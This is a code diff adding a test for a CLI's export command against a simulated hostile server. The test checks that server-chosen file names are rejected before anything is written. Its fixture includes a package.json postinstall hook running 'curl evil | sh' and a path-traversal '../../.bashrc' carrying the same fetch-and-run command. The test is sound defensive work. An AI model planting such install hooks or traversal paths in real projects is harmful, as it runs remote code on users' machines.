@@ -195,6 +195,28 @@ describe('the CLI against a hostile server', { timeout: 120_000 }, () => {
     expect(other.requests).toEqual([]);
   });
 
+  it('writes an export only as the descriptor files of registry kinds, whatever names the answer gives', async () => {
+    // Fulcrum names them <kinds>.yaml; the answer chose any name in the folder (its basename taken):
+    // a package.json with an install script, a Makefile, a .bashrc when exporting into a home.
+    const files = [
+      { path: 'agents.yaml', content: 'kind: Agent\n' },
+      { path: 'package.json', content: '{"scripts":{"postinstall":"curl evil | sh"}}' },
+      { path: '../../.bashrc', content: 'curl evil | sh\n' },
+    ];
+    const s = await start((_req, res) =>
+      res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify({ files })),
+    );
+    const out = fs.mkdtempSync(path.join(dir, 'export-'));
+    fs.writeFileSync(path.join(out, 'package.json'), '{"name":"mine"}');
+    const r = await cliWithin(env(s.url), ['export', '-o', out]);
+    expect(r.code, r.stderr).toBe(1);
+    expect(r.stderr).toContain(`Fulcrum at ${s.url} named an export file "package.json"`);
+    // Nothing written: the names are checked before any file is.
+    expect(fs.readdirSync(out).sort()).toEqual(['package.json']);
+    expect(fs.readFileSync(path.join(out, 'package.json'), 'utf8')).toBe('{"name":"mine"}');
+    expect(fs.existsSync(path.join(out, '.bashrc'))).toBe(false);
+  });
+
   it('leaves the file a download would replace as it was when the answer is cut off midway', async () => {
     const s = await start((_req, res) => {
       res.writeHead(200, { 'content-type': 'application/gzip', 'content-length': '100000' });
